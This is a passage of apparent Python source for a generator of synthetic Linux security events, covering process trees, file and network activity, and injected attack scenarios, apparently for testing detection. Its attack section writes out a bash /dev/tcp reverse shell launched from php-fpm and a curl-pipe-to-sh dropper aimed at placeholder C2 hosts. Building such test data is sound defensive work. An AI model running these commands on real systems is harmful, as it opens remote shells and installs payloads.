    "ansible-playbook", "ansible", "pytest", "black", "ruff", "mypy", "tox", "yarn", "pnpm", "gofmt",
    "clang", "cmake", "ninja", "pkg-config", "autoconf", "ldd", "ldconfig", "update-ca-certificates",
    "certbot", "needrestart", "unattended-upgrade", "sshd-keygen", "ssh-keygen", "ssh-add", "ssh-agent",
    "logrotate", "rsyslogd", "ionice", "numfmt", "shuf", "split", "join", "paste", "comm", "fold",
    "column", "nl", "od", "hexdump", "xxd", "sum", "factor", "nproc", "arch", "lscpu", "lsblk", "blkid",
    "findmnt", "fuser", "pgrep", "pkill", "kill", "killall", "renice", "chrt", "taskset", "setsid",
)))  # fmt: skip
_USR_SBIN: Final = (
    "sshd", "cron", "nginx", "apache2", "php-fpm8.2", "unix_chkpwd", "chpasswd", "iptables", "nft",
    "modprobe", "insmod", "sysctl", "useradd", "usermod", "groupadd", "setcap", "chroot", "cupsd",
    "rsyslogd", "named", "postfix", "dhclient", "ntpd", "chronyd", "auditd", "sshd-session", "setenforce",
    "service", "tcpdump", "ethtool", "e2fsck", "fsck", "mkfs.ext4", "losetup", "blockdev",
)  # fmt: skip
_SYSTEMD: Final = (
    "systemd", "systemd-journald", "systemd-logind", "systemd-resolved", "systemd-networkd",
    "systemd-timesyncd", "systemd-udevd", "systemd-modules-load", "systemd-tmpfiles", "systemd-user-sessions",
)  # fmt: skip
_LOCAL: Final = (
    "node_exporter", "consul", "vault", "nomad", "gitlab-runner", "containerd", "containerd-shim-runc-v2",
    "runc", "dockerd", "kubelet", "kube-proxy", "etcd", "coredns", "helm", "k9s", "stern", "promtail",
    "filebeat", "elastic-agent", "telegraf",
)  # fmt: skip
_OPT_APPS: Final = tuple(f"{a}" for a in (
    "billing", "search", "ingest", "payments", "catalog", "auth", "mailer", "reports", "scheduler",
    "gateway", "inventory", "notifier", "exporter", "uploader", "thumbnailer", "indexer", "crawler",
    "ledger", "quota", "audit-shipper", "backup", "metrics", "tracing", "feature-flags", "sessions",
    "geoip", "pricing", "checkout", "shipping", "recommend", "ranking", "media", "transcoder", "cdn-purge",
    "webhooks", "queue-worker", "cache-warmer", "sitemap", "newsletter", "analytics",
))  # fmt: skip
_LIBS: Final = (
    "c.so.6", "m.so.6", "pthread.so.0", "dl.so.2", "rt.so.1", "ssl.so.3", "crypto.so.3", "z.so.1",
    "lzma.so.5", "zstd.so.1", "bz2.so.1.0", "pcre2-8.so.0", "selinux.so.1", "systemd.so.0", "cap.so.2",
    "acl.so.1", "attr.so.1", "gcc_s.so.1", "stdc++.so.6", "ffi.so.8", "expat.so.1", "uuid.so.1",
    "blkid.so.1", "mount.so.1", "tinfo.so.6", "ncursesw.so.6", "readline.so.8", "sqlite3.so.0",
    "xml2.so.2", "curl.so.4", "nghttp2.so.14", "idn2.so.0", "psl.so.5", "gssapi_krb5.so.2",
    "krb5.so.3", "k5crypto.so.3", "com_err.so.2", "keyutils.so.1", "resolv.so.2", "nss_files.so.2",
    "nss_dns.so.2", "pam.so.0", "pam_misc.so.0", "audit.so.1", "cap-ng.so.0", "seccomp.so.2",
    "gmp.so.10", "nettle.so.8", "hogweed.so.6", "gnutls.so.30", "p11-kit.so.0", "tasn1.so.6",
    "unistring.so.2", "brotlidec.so.1", "brotlicommon.so.1", "ldap-2.5.so.0", "lber-2.5.so.0",
    "sasl2.so.2", "ssh2.so.1", "rtmp.so.1", "python3.11.so.1.0", "perl.so.5.36", "ruby-3.1.so.3.1",
    "node.so.108", "pq.so.5", "hiredis.so.0.14", "mariadb.so.3", "yaml-0.so.2", "jansson.so.4",
    "event-2.1.so.7", "uv.so.1", "icuuc.so.72", "icudata.so.72", "icui18n.so.72", "png16.so.16",
    "jpeg.so.62", "freetype.so.6", "fontconfig.so.1", "harfbuzz.so.0", "glib-2.0.so.0",
)  # fmt: skip
_ETC: Final = (
    "/etc/passwd", "/etc/group", "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ld.so.cache",
    "/etc/localtime", "/etc/ssl/certs/ca-certificates.crt", "/etc/ssl/openssl.cnf", "/etc/host.conf",
    "/etc/gai.conf", "/etc/login.defs", "/etc/environment", "/etc/os-release", "/etc/machine-id",
    "/etc/timezone", "/etc/mime.types", "/etc/inputrc", "/etc/bash.bashrc", "/etc/profile",
    "/etc/ssh/ssh_config", "/etc/ssh/sshd_config", "/etc/sudoers", "/etc/pam.d/common-auth",
    "/etc/pam.d/sshd", "/etc/pam.d/sudo", "/etc/security/limits.conf", "/etc/default/locale",
    "/etc/apt/sources.list", "/etc/logrotate.conf", "/etc/crontab", "/etc/fstab", "/etc/mtab",
    "/etc/nginx/nginx.conf", "/etc/nginx/mime.types", "/etc/php/8.2/fpm/php.ini",
    "/etc/postgresql/15/main/postgresql.conf", "/etc/postgresql/15/main/pg_hba.conf", "/etc/rsyslog.conf",
    "/etc/systemd/system.conf", "/etc/docker/daemon.json", "/etc/containerd/config.toml",
    "/etc/kubernetes/kubelet.conf", "/etc/gitlab-runner/config.toml", "/etc/npmrc", "/etc/pip.conf",
)  # fmt: skip
_WORDS: Final = (
    "api", "core", "util", "models", "views", "handlers", "config", "client", "server", "cache", "db",
    "auth", "session", "routes", "schema", "tasks", "worker", "events", "metrics", "logging", "parser",
    "render", "export", "import", "sync", "queue", "store", "index", "search", "report", "billing",
    "invoice", "user", "account", "admin", "mail", "notify", "upload", "image", "thumb", "feed",
)  # fmt: skip
_USERS: Final = (
    ("0", "root"), ("33", "www-data"), ("114", "postgres"), ("1000", "alice"), ("1001", "bob"),
    ("1002", "ci"), ("1003", "deploy"), ("1004", "carol"), ("101", "systemd-network"),
    ("999", "gitlab-runner"),
)  # fmt: skip
_PUBLIC_V4: Final = (
    "151.101.{a}.{b}", "140.82.{c}.{b}", "104.16.{a}.{b}", "104.18.{a}.{b}", "142.250.{a}.{b}",
    "34.{a}.{c}.{b}", "52.{a}.{c}.{b}", "91.189.91.{b}", "199.232.{a}.{b}", "185.199.{c}.{b}",
)  # fmt: skip
_PUBLIC_V6: Final = (
    "2606:4700::6810:{x}", "2a04:4e42::{x}", "2607:f8b0:4004:c1b::{x}", "2a01:4f8:c17:{x}::1",
    "2600:1f18:{x}::10", "2620:2d:4000:1::{x}",
)  # fmt: skip
_SPAWNERS: Final = frozenset(
    {"bash", "sh", "dash", "zsh", "sshd", "make", "python3", "node", "npm", "go", "sudo", "tmux", "screen",
     "containerd-shim-runc-v2", "gitlab-runner", "cargo", "docker", "env", "timeout", "nohup", "xargs"}
)  # fmt: skip
_ROLES: Final = ("web", "web", "web", "web", "db", "db", "ci", "ci", "ci", "bastion", "k8s", "k8s")


def _exe_path(name: str) -> str:
    if name in _SYSTEMD:
        return f"/usr/lib/systemd/{name}"
    if name in _USR_SBIN:
        return f"/usr/sbin/{name}"
    if name in _LOCAL:
        return f"/usr/local/bin/{name}"
    if name == "java":
        return "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"
    if name == "postgres":
        return "/usr/lib/postgresql/15/bin/postgres"
    if name in ("bash", "sh", "dash"):
        return f"/usr/bin/{name}" if name != "sh" else "/usr/bin/sh"
    return f"/usr/bin/{name}"


@dataclass(slots=True)
class _Proc:
    """A live process: its ECS ``process`` object and who runs it where."""

    host: int
    process: dict[str, Any]
    user: tuple[str, str]
    role: str
    daemon: bool = False


@dataclass
class _Host:
    index: int
    role: str
    doc: dict[str, Any]
    ip: str
    ip6: str
    next_pid: int
    live: list[_Proc] = field(default_factory=list)
    parents: list[_Proc] = field(default_factory=list)  # live processes that start others
    daemons: dict[str, _Proc] = field(default_factory=dict)


class _Stream:
    """Builds the event stream: hosts, live process trees, workloads and rare attack scenarios."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.tmp_counter = 0
        self.hosts: list[_Host] = []
        names = {"web": 0, "db": 0, "ci": 0, "bastion": 0, "k8s": 0}
        for i, role in enumerate(_ROLES):
            names[role] += 1
            hid = f"{self.rng.getrandbits(128):032x}"
            doc = {
                "id": hid,
                "name": f"{role}-{names[role]:02d}",
                "os": {"type": "linux", "family": "debian"},
            }
            host = _Host(
                i,
                role,
                doc,
                f"10.0.{1 + i // 4}.{10 + i}",
                f"fd00:10:0:{1 + i // 4}::{10 + i:x}",
                next_pid=300 + self.rng.randrange(200),
            )
            self.hosts.append(host)
            self._boot(host)

    # ------------------------------------------------------------------ processes

    def _entity(self) -> str:
        return f"{self.rng.getrandbits(96):024x}"

    def _proc(
        self,
        host: _Host,
        parent: _Proc | None,
        name: str,
        args: list[str],
        user: tuple[str, str],
        cwd: str,
        exe: str | None = None,
    ) -> _Proc:
        host.next_pid += 1 + self.rng.randrange(25)
        if host.next_pid > 4_194_000:
            host.next_pid = 300
        p: dict[str, Any] = {
            "pid": host.next_pid,
            "entity_id": self._entity(),
            "name": name,
            "executable": exe or _exe_path(name),
            "args": args,
            "args_count": len(args),
            "command_line": " ".join(args),
            "working_directory": cwd,
        }
        if parent is not None:
            pp = parent.process
            p["parent"] = {
                "pid": pp["pid"],
                "entity_id": pp["entity_id"],
                "name": pp["name"],
                "executable": pp["executable"],
            }
        return _Proc(host.index, p, user, host.role)

    def _boot(self, host: _Host) -> None:
        root = ("0", "root")
        init = self._proc(
            host, None, "systemd", ["/sbin/init", "splash"], root, "/", exe="/usr/lib/systemd/systemd"
        )
        init.daemon = True
        host.daemons["systemd"] = init
        daemons: dict[str, tuple[list[str], tuple[str, str]]] = {
            "sshd": (["sshd:", "/usr/sbin/sshd", "-D", "[listener]", "0", "of", "10-100", "startups"], root),
            "cron": (["/usr/sbin/cron", "-f", "-P"], root),
            "systemd-resolved": (["/usr/lib/systemd/systemd-resolved"], ("101", "systemd-resolve")),
            "rsyslogd": (["/usr/sbin/rsyslogd", "-n", "-iNONE"], ("104", "syslog")),
            "chronyd": (["/usr/sbin/chronyd", "-F", "1"], ("105", "_chrony")),
        }
        role_daemons = {
            "web": {
                "nginx": (["nginx:", "worker", "process"], ("33", "www-data")),
                "php-fpm8.2": (["php-fpm:", "pool", "www"], ("33", "www-data")),
            },
            "db": {
                "postgres": (
                    ["/usr/lib/postgresql/15/bin/postgres", "-D", "/var/lib/postgresql/15/main"],
                    ("114", "postgres"),
                )
            },
            "ci": {
                "gitlab-runner": (
                    ["/usr/local/bin/gitlab-runner", "run", "--working-directory", "/home/gitlab-runner"],
                    ("999", "gitlab-runner"),
                ),
                "dockerd": (["/usr/bin/dockerd", "-H", "fd://"], root),
            },
            "bastion": {},
            "k8s": {
                "kubelet": (["/usr/local/bin/kubelet", "--config=/var/lib/kubelet/config.yaml"], root),
                "containerd": (["/usr/local/bin/containerd"], root),
                "java": (["java", "-Xmx2g", "-jar", "/opt/search/lib/search.jar"], ("1003", "deploy")),
                "node": (["node", "/opt/gateway/server.js"], ("1003", "deploy")),
            },
        }
        daemons.update(role_daemons[host.role])
        for name, (args, user) in daemons.items():
            host.daemons[name] = self._proc(host, init, name, args, user, "/")
            host.daemons[name].daemon = True

    def _pick_live(self, host: _Host) -> _Proc:
        """Pick a live process, recent ones likelier (a start is soon followed by its file/network events)."""
        if host.live and self.rng.random() < 0.8:
            back = min(int(self.rng.expovariate(0.25)), len(host.live) - 1)
            return host.live[-1 - back]
        return self.rng.choice(list(host.daemons.values()))

    def _pick_parent(self, host: _Host) -> _Proc:
        """Pick a process that starts others: a shell, build tool or session; else systemd."""
        if host.parents and self.rng.random() < 0.9:
            back = min(int(self.rng.expovariate(0.1)), len(host.parents) - 1)
            return host.parents[-1 - back]
        return host.daemons["systemd"]

    def _remember(self, host: _Host, proc: _Proc) -> None:
        host.live.append(proc)
        if len(host.live) > 400:
            del host.live[:100]
        if proc.process["name"] in _SPAWNERS:
            host.parents.append(proc)
            if len(host.parents) > 200:
                del host.parents[:50]

    # ------------------------------------------------------------------ event documents

    def _base(self, host: _Host, category: str, etype: str, action: str) -> Event:
        return {
            "@timestamp": 0,
            "event": {"kind": "event", "category": category, "type": etype, "action": action, "sequence": 0},
            "host": host.doc,
        }

    def process_start(self, proc: _Proc) -> Event:
        ev = self._base(self.hosts[proc.host], "process", "start", "exec")
        ev["process"] = dict(proc.process)
        ev["user"] = {"id": proc.user[0], "name": proc.user[1]}
        return ev

    def process_end(self, proc: _Proc) -> Event:
        ev = self._base(self.hosts[proc.host], "process", "end", "end")
        p = dict(proc.process)
        p["exit_code"] = 0 if self.rng.random() < 0.93 else self.rng.choice((1, 2, 127, 130, 137, 143))
        ev["process"] = p
        ev["user"] = {"id": proc.user[0], "name": proc.user[1]}
        return ev

    def _short(self, proc: _Proc) -> dict[str, Any]:
        p = proc.process
        return {
            "pid": p["pid"],
            "entity_id": p["entity_id"],
            "name": p["name"],
            "executable": p["executable"],
        }

    def file_event(self, proc: _Proc, path: str, etype: str = "access") -> Event:
        action = {"access": "open", "creation": "creation", "change": "modification", "deletion": "deletion"}[
            etype
        ]
        ev = self._base(self.hosts[proc.host], "file", etype, action)
        name = path.rsplit("/", 1)[-1]
        f: dict[str, Any] = {"path": path, "name": name}
        if "." in name.strip("."):
            f["extension"] = name.rsplit(".", 1)[-1]
        ev["file"] = f
        ev["process"] = self._short(proc)
        ev["user"] = {"id": proc.user[0], "name": proc.user[1]}
        return ev

    def net_event(
        self, proc: _Proc, ip: str, port: int, transport: str = "tcp", inbound: bool = False
    ) -> Event:
        host = self.hosts[proc.host]
        ev = self._base(
            host, "network", "start", "connection_accepted" if inbound else "connection_attempted"
        )
        local_ip = host.ip6 if ":" in ip else host.ip
        eph = self.rng.randrange(32768, 61000)
        if inbound:
            ev["source"] = {"ip": ip, "port": eph}
            ev["destination"] = {"ip": local_ip, "port": port}
        else:
            ev["source"] = {"ip": local_ip, "port": eph}
            ev["destination"] = {"ip": ip, "port": port}
        ev["network"] = {
            "transport": transport,
            "type": "ipv6" if ":" in ip else "ipv4",
            "direction": "ingress" if inbound else "egress",
        }
        ev["process"] = self._short(proc)
        ev["user"] = {"id": proc.user[0], "name": proc.user[1]}
        return ev

    # ------------------------------------------------------------------ value pools

    def public_ip(self) -> str:
        r = self.rng
        if r.random() < 0.15:
            return r.choice(_PUBLIC_V6).format(x=f"{r.randrange(1, 0xFFFF):x}")
        return r.choice(_PUBLIC_V4).format(
            a=r.randrange(0, 64), b=r.randrange(1, 255), c=r.randrange(112, 128)
        )

    def internal_ip(self) -> str:
        r = self.rng
        if r.random() < 0.1:
            return f"fd00:10:0:{r.randrange(1, 5)}::{r.randrange(10, 60):x}"
        return f"10.0.{r.randrange(1, 5)}.{r.randrange(2, 60)}"

    def tmp_unique(self) -> str:
        self.tmp_counter += 1
        r = self.rng
        stem = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789_") for _ in range(8))
        kind = r.randrange(5)
        if kind == 0:
            return f"/tmp/tmp{stem}"
        if kind == 1:
            return f"/tmp/cc{stem[:6]}.o"
        if kind == 2:
            return f"/tmp/pytest-of-ci/pytest-{self.tmp_counter % 97}/test_{r.choice(_WORDS)}0/{stem}.json"
        if kind == 3:
            return f"/var/tmp/systemd-private-{r.getrandbits(64):016x}/tmp/{stem}"
        return f"/tmp/go-build{r.randrange(10**8, 10**9)}/b{r.randrange(1, 400):03d}/_pkg_.a"

    def lib_path(self) -> str:
        return f"/usr/lib/x86_64-linux-gnu/lib{self.rng.choice(_LIBS)}"

    def project_path(self, user: str) -> str:
        r = self.rng
        proj = f"{r.choice(_WORDS)}-{r.choice(('svc', 'api', 'web', 'lib', 'tools'))}"
        sub = r.choice(("src", "tests", "docs", "scripts", "internal", "pkg", "cmd"))
        ext = r.choice(("py", "go", "js", "ts", "md", "yaml", "json", "toml", "sh", "rs"))
        base = "/home/gitlab-runner/builds/grp" if user == "gitlab-runner" else f"/home/{user}"
        return f"{base}/{proj}/{sub}/{r.choice(_WORDS)}_{r.randrange(40)}.{ext}"

    def web_path(self) -> str:
        r = self.rng
        ext = r.choice(("php", "php", "js", "css", "png", "html", "svg", "woff2", "json"))
        return (
            f"/var/www/site-{r.randrange(24)}/{r.choice(_WORDS)}/{r.choice(_WORDS)}-{r.randrange(60)}.{ext}"
        )

    # ------------------------------------------------------------------ benign workload

    def _args_for(self, name: str, user: str, cwd: str) -> list[str]:
        r = self.rng
        w = r.choice(_WORDS)
        table: dict[str, Callable[[], list[str]]] = {
            "ls": lambda: ["ls", r.choice(("-la", "-l", "-1", "--color=auto")), cwd],
            "cat": lambda: ["cat", r.choice((self.project_path(user), r.choice(_ETC), "/proc/meminfo"))],
            "grep": lambda: ["grep", "-rn", w, r.choice(("src/", ".", "/var/log/syslog"))],
            "find": lambda: [
                "find",
                cwd,
                "-name",
                f"*.{r.choice(('py', 'log', 'go', 'json'))}",
                "-mtime",
                "-1",
            ],
            "git": lambda: [
                "git",
                *r.choice(
                    (
                        ("status",),
                        ("fetch", "--prune", "origin"),
                        ("diff", "HEAD~1"),
                        ("log", "--oneline", "-20"),
                        ("checkout", f"feature/{w}"),
                        ("rev-parse", "HEAD"),
                        ("submodule", "update", "--init"),
                    )
                ),
            ],
            "curl": lambda: [
                "curl",
                "-fsS",
                r.choice(
                    (
                        f"https://api.internal/{w}/health",
                        f"http://10.0.{r.randrange(1, 5)}.{r.randrange(2, 60)}:8080/{w}",
                        "https://pypi.org/simple/",
                        f"https://github.com/org/{w}.git",
                    )
                ),
            ],
            "wget": lambda: [
                "wget",
                "-q",
                f"https://deb.debian.org/debian/pool/main/{w[0]}/{w}/{w}_1.{r.randrange(9)}.deb",
            ],
            "python3": lambda: [
                "python3",
                *r.choice(
                    (
                        ("-m", "pytest", "-q", "tests/"),
                        (f"/opt/{r.choice(_OPT_APPS)}/bin/{w}.py",),
                        ("manage.py", "migrate"),
                        ("-c", "import sys; print(sys.version)"),
                        ("-m", "pip", "install", "-r", "requirements.txt"),
                    )
                ),
            ],
            "gcc": lambda: ["gcc", "-O2", "-Wall", "-c", f"src/{w}.c", "-o", f"build/{w}.o"],
            "cc": lambda: ["cc", "-O2", "-fPIC", "-c", f"{w}.c"],
            "make": lambda: ["make", r.choice(("-j2", "-j4")), r.choice(("all", "test", "lint", "install"))],
            "tar": lambda: [
                "tar",
                r.choice(("-czf", "-xzf")),
                f"/var/backups/{w}-{r.randrange(100)}.tar.gz",
                w,
            ],
            "ssh": lambda: [
                "ssh",
                "-o",
                "BatchMode=yes",
                f"{user}@10.0.{r.randrange(1, 5)}.{r.randrange(2, 60)}",
            ],
            "docker": lambda: [
                "docker",
                *r.choice(
                    (
                        ("ps",),
                        ("build", "-t", f"{w}:ci", "."),
                        ("pull", f"registry.internal/{w}:latest"),
                        ("run", "--rm", f"{w}:ci", "make", "test"),
                    )
                ),
            ],
            "kubectl": lambda: [
                "kubectl",
                r.choice(("get", "describe", "logs")),
                r.choice(("pods", "deploy", "svc")),
                "-n",
                w,
            ],
            "systemctl": lambda: [
                "systemctl",
                r.choice(("status", "is-active", "restart", "reload")),
                r.choice(("nginx", "php8.2-fpm", "postgresql", "cron")),
            ],
            "journalctl": lambda: ["journalctl", "-u", r.choice(("nginx", "ssh", "cron")), "--since", "-1h"],
            "sudo": lambda: [
                "sudo",
                *r.choice(
                    (("systemctl", "reload", "nginx"), ("apt-get", "update"), ("-u", "postgres", "psql"))
                ),
            ],
            "node": lambda: [
                "node",
                r.choice(("dist/server.js", "node_modules/.bin/jest", "scripts/build.js")),
            ],
            "npm": lambda: [
                "npm",
                r.choice(("ci", "test", "run", "install")),
                *r.choice(((), ("--no-audit",), ("build",))),
            ],
            "go": lambda: ["go", r.choice(("build", "test", "vet")), "./..."],
            "java": lambda: ["java", "-Xmx512m", "-jar", f"/opt/{r.choice(_OPT_APPS)}/lib/{w}.jar"],
            "vim": lambda: ["vim", self.project_path(user)],
            "sed": lambda: ["sed", "-i", f"s/{w}/{r.choice(_WORDS)}/g", self.project_path(user)],
            "awk": lambda: ["awk", "{print $1}", "/var/log/nginx/access.log"],
            "chmod": lambda: ["chmod", r.choice(("644", "755", "+x", "u+w")), self.project_path(user)],
            "rsync": lambda: [
                "rsync",
                "-az",
                f"/var/www/site-{r.randrange(24)}/",
                f"backup@10.0.4.{r.randrange(2, 60)}:/srv/backup/",
            ],
            "psql": lambda: ["psql", "-h", "10.0.2.11", "-U", "app", "-c", "select 1"],
            "apt-get": lambda: ["apt-get", r.choice(("update", "install", "upgrade")), "-y"],
        }
        builder = table.get(name)
        if builder is not None:
            return builder()
        flags = r.sample(("-v", "-q", "-n", "-f", "-r", "-a", "--help", "-h", "-1"), r.randrange(0, 3))
        tail = [r.choice((cwd, self.project_path(user), f"/var/log/{w}.log"))] if r.random() < 0.4 else []
        return [name, *flags, *tail]

    _INTERACTIVE: Final = (
        "ls", "cat", "grep", "git", "vim", "less", "ps", "top", "ssh", "curl", "python3", "make", "find",
        "tail", "head", "df", "du", "sudo", "kubectl", "docker", "systemctl", "journalctl", "sed", "awk",
        "jq", "htop", "tmux", "diff", "wc", "sort", "tar", "rsync", "psql", "ip", "ss", "dig", "ping",
    )  # fmt: skip
    _CI: Final = (
        "bash", "make", "gcc", "cc", "ld", "as", "cc1", "python3", "pytest", "node", "npm", "go", "git",
        "tar", "docker", "curl", "cargo", "rustc", "mypy", "ruff", "black", "yarn", "cmake", "ninja",
        "sha256sum", "cp", "mv", "rm", "mkdir", "find", "sed", "xargs",
    )  # fmt: skip
    _CRON: Final = (
        "sh -c run-parts --report /etc/cron.hourly",
        "sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "sh -c [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
        "sh -c /usr/sbin/logrotate /etc/logrotate.conf",
        "sh -c /opt/backup/bin/backup --incremental",
        "sh -c certbot -q renew",
    )  # fmt: skip

    def benign_process(self, host: _Host) -> Event:
        r = self.rng
        role = host.role
        roll = r.random()
        root = ("0", "root")
        if roll < 0.12:  # cron job
            line = r.choice(self._CRON)
            proc = self._proc(host, host.daemons["cron"], "sh", ["/bin/sh", "-c", line[6:]], root, "/")
        elif roll < 0.2:  # ssh login -> shell
            user = r.choice(_USERS[3:8])
            sess = self._proc(
                host, host.daemons["sshd"], "sshd", ["sshd:", f"{user[1]}@pts/{r.randrange(8)}"], root, "/"
            )
            self._remember(host, sess)
            proc = self._proc(host, sess, "bash", ["-bash"], user, f"/home/{user[1]}")
        elif role == "ci" and roll < 0.85:
            parent = self._pick_parent(host)
            name = r.choice(self._CI)
            if r.random() < 0.03:  # go test binaries run from the build cache
                exe = f"/tmp/go-build{r.randrange(10**8, 10**9)}/b001/exe/{r.choice(_WORDS)}.test"
                proc = self._proc(
                    host,
                    parent,
                    exe.rsplit("/", 1)[1],
                    [exe, "-test.v"],
                    ("999", "gitlab-runner"),
                    "/home/gitlab-runner/builds/grp",
                    exe=exe,
                )
            else:
                cwd = f"/home/gitlab-runner/builds/grp/{r.choice(_WORDS)}-svc"
                proc = self._proc(
                    host,
                    parent,
                    name,
                    self._args_for(name, "gitlab-runner", cwd),
                    ("999", "gitlab-runner"),
                    cwd,
                )
        elif role == "db" and roll < 0.7:
            pg = host.daemons["postgres"]
            proc = self._proc(
                host,
                pg,
                "postgres",
                ["postgres:", "app", "app", f"10.0.1.{r.randrange(10, 20)}(", "idle"],
                pg.user,
                "/var/lib/postgresql/15/main",
                exe=pg.process["executable"],
            )
        elif role == "k8s" and roll < 0.6:
            shim = self._proc(
                host,
                host.daemons["containerd"],
                "containerd-shim-runc-v2",
                ["containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", f"{r.getrandbits(64):016x}"],
                root,
                "/",
            )
            self._remember(host, shim)
            app = r.choice(_OPT_APPS)
            proc = self._proc(
                host,
                shim,
                r.choice(("java", "node", "python3")),
                [f"/opt/{app}/bin/{app}", "--port", "8080"],
                ("1003", "deploy"),
                f"/opt/{app}",
                exe=f"/opt/{app}/bin/{app}",
            )
        else:  # a shell user or service running tools, from the whole pool of executables
            parent = self._pick_parent(host)
            user = parent.user
            cwd = parent.process.get("working_directory", "/")
            pool = r.random()
            if pool < 0.55:
                name = r.choice(self._INTERACTIVE)
                exe = None
            elif pool < 0.8:
                name = r.choice(_USR_BIN)
                exe = None
            elif pool < 0.9:
                name = r.choice(_USR_SBIN + _SYSTEMD + _LOCAL)
                exe = None
            elif pool < 0.97:
                app = r.choice(_OPT_APPS)
                name = f"{app}-{r.choice(('worker', 'cli'))}"
                exe = f"/opt/{app}/bin/{name}"
            else:
                name = r.choice(("poetry", "black", "httpie", "pipx", "rg", "fd"))
                exe = f"/home/{user[1]}/.local/bin/{name}" if user[0] != "0" else f"/root/.local/bin/{name}"
            args = self._args_for(name, user[1], cwd)
            proc = self._proc(host, parent, name, args, user, cwd, exe=exe)
        self._remember(host, proc)
        return self.process_start(proc)

    def benign_end(self, host: _Host) -> Event:
        if not host.live:
            return self.benign_process(host)
        idx = max(0, len(host.live) - 1 - int(self.rng.expovariate(0.05)))
        proc = host.live.pop(idx)
        if proc in host.parents:
            host.parents.remove(proc)
        return self.process_end(proc)

    def benign_file(self, host: _Host) -> Event:
        r = self.rng
        proc = self._pick_live(host)
        name = proc.process["name"]
        user = proc.user[1]
        roll = r.random()
        etype = "access"
        if name == "sshd" and roll < 0.3:
            path = r.choice(("/etc/shadow", "/etc/passwd", "/etc/pam.d/sshd", "/etc/ssh/sshd_config"))
        elif name == "ssh" and roll < 0.5:
            path = f"/home/{user}/.ssh/{r.choice(('id_ed25519', 'known_hosts', 'config', 'id_ed25519.pub'))}"
        elif name == "docker" and roll < 0.5:
            path = "/var/run/docker.sock"
        elif name == "sudo" and roll < 0.5:
            path = r.choice(("/etc/sudoers", "/etc/shadow", "/etc/pam.d/sudo"))
        elif name in ("nginx", "php-fpm8.2"):
            if roll < 0.7:
                path = self.web_path()
            else:
                path = r.choice(
                    ("/var/log/nginx/access.log", "/var/log/nginx/error.log", "/var/log/php8.2-fpm.log")
                )
                etype = "change"
        elif name == "postgres":
            path = (
                f"/var/lib/postgresql/15/main/base/{r.choice((16384, 16385, 1))}/{r.randrange(1200, 90000)}"
            )
            etype = "change" if roll < 0.4 else "access"
        elif proc.daemon or roll < 0.25:  # daemons: libraries, config, logs
            path = r.choice(
                (self.lib_path(), r.choice(_ETC), f"/var/log/{r.choice(('syslog', 'auth.log', 'kern.log'))}")
            )
        elif roll < 0.45:
            path = r.choice(_ETC)
        elif roll < 0.6:
            pid = r.choice((proc.process["pid"], "self", r.randrange(300, 40000)))
            path = f"/proc/{pid}/{r.choice(('status', 'stat', 'cmdline', 'maps', 'fd'))}"
        elif roll < 0.8:
            path = self.tmp_unique()
            etype = r.choice(("creation", "creation", "change", "deletion"))
        else:
            path = self.project_path(user if user not in ("root", "www-data", "postgres") else "deploy")
            etype = r.choice(("access", "access", "change", "creation"))
        return self.file_event(proc, path, etype)

    def benign_net(self, host: _Host) -> Event:
        r = self.rng
        roll = r.random()
        if host.role == "web" and roll < 0.35:
            return self.net_event(host.daemons["nginx"], self.public_ip(), 443, inbound=True)
        if host.role == "db" and roll < 0.4:
            return self.net_event(
                host.daemons["postgres"], f"10.0.1.{r.randrange(10, 20)}", 5432, inbound=True
            )
        if roll < 0.45 and r.random() < 0.2:
            return self.net_event(host.daemons["sshd"], f"10.0.9.{r.randrange(2, 250)}", 22, inbound=True)
        proc = self._pick_live(host)
        name = proc.process["name"]
        if roll < 0.6:  # a DNS lookup (the stub resolver, then upstream)
            if name == "systemd-resolved":
                return self.net_event(proc, "10.0.0.2", 53, "udp")
            return self.net_event(proc, "127.0.0.53", 53, "udp")
        if name in ("curl", "wget", "git", "apt-get", "pip3", "npm", "go", "cargo", "docker"):
            return self.net_event(proc, self.public_ip(), r.choice((443, 443, 443, 80)))
        if name in ("psql", "php-fpm8.2", "python3", "java", "node"):
            return self.net_event(proc, self.internal_ip(), r.choice((5432, 6379, 9200, 8080, 3306, 11211)))
        if name in ("ssh", "rsync", "scp"):
            return self.net_event(proc, self.internal_ip(), 22)
        if name == "chronyd":
            return self.net_event(proc, self.public_ip(), 123, "udp")
        if roll < 0.8:
            return self.net_event(proc, self.internal_ip(), r.choice((443, 8080, 9090, 9100, 8500, 8200)))
        return self.net_event(proc, self.public_ip(), 443)

    # ------------------------------------------------------------------ attacks

    def attack(self) -> list[Callable[[], Event]]:
        """One attack scenario: its events, in order, as builders run when they are due."""
        r = self.rng
        kind = r.randrange(7)
        web = [h for h in self.hosts if h.role == "web"]
        host = r.choice(web) if kind in (0, 1) else r.choice(self.hosts)
        c2 = f"{_HOT_C2[0]}{r.randrange(2, 250)}"
        drop = f"{_HOT_C2[1]}{r.randrange(2, 250)}"
        www = ("33", "www-data")
        root = ("0", "root")
        steps: list[Callable[[], Event]] = []
        if kind in (0, 1):  # web shell: recon, then a reverse shell
            fpm = host.daemons["php-fpm8.2"]
            sh = self._proc(
                host,
                fpm,
                "sh",
                ["sh", "-c", f"bash -i >& /dev/tcp/{c2}/4444 0>&1"],
                www,
                "/var/www/site-3/upload",
            )
            bash = self._proc(host, sh, "bash", ["bash", "-i"], www, "/var/www/site-3/upload")
            recon = [self._proc(host, sh, t, [t], www, "/var/www/site-3/upload") for t in ("id", "uname")]
            steps += [lambda: self.process_start(sh), *[partial(self.process_start, p) for p in recon]]
            steps += [lambda: self.process_start(bash), lambda: self.net_event(bash, c2, 4444)]
            if kind == 1:
                steps.append(lambda: self.file_event(bash, "/etc/passwd"))
                steps.append(lambda: self.process_end(bash))
        elif kind == 2:  # curl | sh dropper: a miner in a hidden temp directory
            parent = self._pick_parent(host)
            sh = self._proc(
                host, parent, "sh", ["sh", "-c", f"curl -fsSL http://{drop}/ldr.sh | sh"], root, "/root"
            )
            curl = self._proc(host, sh, "curl", ["curl", "-fsSL", f"http://{drop}/ldr.sh"], root, "/root")
